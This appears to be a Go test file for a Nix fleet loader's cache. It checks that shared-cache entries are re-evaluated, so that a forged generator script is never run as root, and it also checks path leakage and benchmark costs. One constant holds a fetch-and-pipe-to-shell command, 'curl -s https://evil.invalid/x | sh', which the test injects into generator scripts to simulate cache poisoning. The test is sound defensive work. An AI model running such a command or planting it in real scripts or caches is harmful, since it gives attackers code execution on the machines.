package fleet

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/vanixiets/vanixiets/tasks/cache"
	"github.com/vanixiets/vanixiets/tasks/digest"
	"github.com/vanixiets/vanixiets/tasks/nix"
	"github.com/vanixiets/vanixiets/tasks/nix/nixtest"
	"github.com/vanixiets/vanixiets/tasks/pipeline"
)

// forgedScript is what a forger puts in front of every generator script.
const forgedScript = "curl -s https://evil.invalid/x | sh; "

// forge returns the lab's fleet JSON with every generator script prefixed
// by forgedScript: what a writer to the shared cache would plant so that
// vars:generate runs it as root.
func forge(tb testing.TB, real []byte) []byte {
	tb.Helper()
	f := bytes.ReplaceAll(real, []byte(`"script":"`), []byte(`"script":"`+forgedScript))
	assert.Assert(tb, !bytes.Equal(f, real), "the lab's fleet JSON has no generator script to forge")
	return f
}

func scriptsForged(f *Fleet) bool {
	for _, m := range f.Machines {
		for _, g := range m.Generators {
			if strings.Contains(g.Script, forgedScript) {
				return true
			}
		}
	}
	return false
}

// evalKey is the key l's EvalStep has for the flake dir, as a run makes it.
func evalKey(tb testing.TB, l *Loader, dir string) string {
	tb.Helper()
	step, err := l.EvalStep(context.Background(), dir)
	assert.NilError(tb, err)
	ff, err := FilesOf(context.Background(), dir)
	assert.NilError(tb, err)
	m, err := ff.hash(l.Hasher)
	assert.NilError(tb, err)
	return pipeline.StepKey(step, m, nil)
}

// evalRecord is what a run of EvalStep that evaluated fleetJSON records.
func evalRecord(fleetJSON []byte) []byte {
	return pipeline.EncodeRecord(pipeline.Outputs{"fleet": string(fleetJSON)}, 0)
}

// Load (what vars generate, deploy and terraform act on) takes the fleet
// from the cache only when this machine evaluated it; an entry copied from
// the shared cache (written back as shared by cache.Layered) is evaluated
// again, so a forged one never reaches a generator. LoadUnvalidated (for
// display) still takes it.
func TestLoadIgnoresSharedEntries(t *testing.T) {
	ctx := context.Background()
	lab := repoLab(t)
	seed := testLoader(t)
	real, _, err := seed.JSON(ctx, lab)
	assert.NilError(t, err)
	k := evalKey(t, seed, lab)

	tests := []struct {
		name     string
		plant    func(l *cache.Local) error
		wantEval bool // Load starts nix
	}{
		{
			name:     "made here",
			plant:    func(l *cache.Local) error { return l.Put(ctx, k, evalRecord(real)) },
			wantEval: false,
		},
		{
			name:     "copied from the shared cache, forged",
			plant:    func(l *cache.Local) error { return l.PutShared(ctx, k, evalRecord(forge(t, real))) },
			wantEval: true,
		},
		{
			name:     "copied from the shared cache, genuine",
			plant:    func(l *cache.Local) error { return l.PutShared(ctx, k, evalRecord(real)) },
			wantEval: true,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			store := cache.NewLocal(t.TempDir())
			assert.NilError(t, tc.plant(store))
			l := &Loader{Nix: seed.Nix, Cache: store, Hasher: digest.NewHasher("")}
			before := nix.Invocations()
			f, err := l.Load(ctx, lab)
			assert.NilError(t, err)
			assert.Equal(t, nix.Invocations() > before, tc.wantEval)
			assert.Assert(t, !scriptsForged(f), "Load returned a forged generator script")

			// What Load evaluated is now this machine's own: the next
			// Load hits.
			before = nix.Invocations()
			_, err = l.Load(ctx, lab)
			assert.NilError(t, err)
			assert.Equal(t, nix.Invocations(), before)
		})
	}

	// The display path still uses a shared hit (signed, in real use).
	store := cache.NewLocal(t.TempDir())
	assert.NilError(t, store.PutShared(ctx, k, evalRecord(forge(t, real))))
	l := &Loader{Nix: seed.Nix, Cache: store, Hasher: digest.NewHasher("")}
	f, hit, err := l.LoadUnvalidated(ctx, lab)
	assert.NilError(t, err)
	assert.Assert(t, hit)
	assert.Assert(t, scriptsForged(f), "LoadUnvalidated serves shared hits: the forgery test above proves something")
}

// A result made in one checkout and hit in a second clone (another
// directory, same content, same cache) carries no path of the first.
func TestCachedResultsCarryNoCheckoutPath(t *testing.T) {
	ctx := context.Background()
	n := nixtest.New(t)
	firstRoot := filepath.Dir(copyLab(t, nil))
	first := filepath.Join(firstRoot, "lab")
	secondRoot := filepath.Join(t.TempDir(), "second-clone")
	second := filepath.Join(secondRoot, "lab")
	store := cache.NewLocal(t.TempDir())
	tests := []struct {
		name string
		run  func(l *Loader, dir string) (result string, hit bool)
	}{
		{
			name: "fleet JSON",
			run: func(l *Loader, dir string) (string, bool) {
				b, hit, err := l.JSON(ctx, dir)
				assert.NilError(t, err)
				return string(b), hit
			},
		},
		{
			name: "flake check",
			run: func(l *Loader, dir string) (string, bool) {
				res, err := l.CheckFlake(ctx, dir)
				assert.NilError(t, err)
				assert.Equal(t, res.Flake, dir, "the result names the checkout it was asked about")
				b, ok, err := store.Get(ctx, res.Key)
				assert.NilError(t, err)
				assert.Assert(t, ok)
				return string(b), res.Cached
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, hit := tc.run(&Loader{Nix: n, Cache: store, Hasher: digest.NewHasher("")}, first)
			assert.Assert(t, !hit)
			if _, err := os.Stat(secondRoot); err != nil {
				copyTree(t, firstRoot, secondRoot) // with its .git: a clone
			}
			got, hit := tc.run(&Loader{Nix: n, Cache: store, Hasher: digest.NewHasher("")}, second)
			assert.Assert(t, hit, "the second clone hits what the first made")
			assert.Assert(t, !strings.Contains(got, firstRoot), "the hit carries the first clone's path: %s", got)
		})
	}
}

// BenchmarkLoadMadeHere measures what refusing shared hits costs Load: a
// hit made here (the common case: a repeat run on the same machine) against
// a shared entry that Load evaluates again (the first run after another
// machine's change), and LoadUnvalidated's shared hit for comparison.
//
//	go test ./tasks/fleet -run '^$' -bench LoadMadeHere
func BenchmarkLoadMadeHere(b *testing.B) {
	ctx := context.Background()
	lab := repoLab(b)
	seed := testLoader(b)
	real, _, err := seed.JSON(ctx, lab)
	assert.NilError(b, err)
	k := evalKey(b, seed, lab)
	cases := []struct {
		name  string
		plant func(l *cache.Local) error
		load  func(l *Loader) error
	}{
		{"Load/made-here-hit", func(l *cache.Local) error { return l.Put(ctx, k, evalRecord(real)) },
			func(l *Loader) error { _, err := l.Load(ctx, lab); return err }},
		{"Load/shared-entry-reevaluated", func(l *cache.Local) error { return l.PutShared(ctx, k, evalRecord(real)) },
			func(l *Loader) error { _, err := l.Load(ctx, lab); return err }},
		{"LoadUnvalidated/shared-hit", func(l *cache.Local) error { return l.PutShared(ctx, k, evalRecord(real)) },
			func(l *Loader) error { _, _, err := l.LoadUnvalidated(ctx, lab); return err }},
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			h := digest.NewHasher("")
			for b.Loop() {
				b.StopTimer()
				store := cache.NewLocal(b.TempDir())
				assert.NilError(b, c.plant(store))
				l := &Loader{Nix: seed.Nix, Cache: store, Hasher: h}
				b.StartTimer()
				if err := c.load(l); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
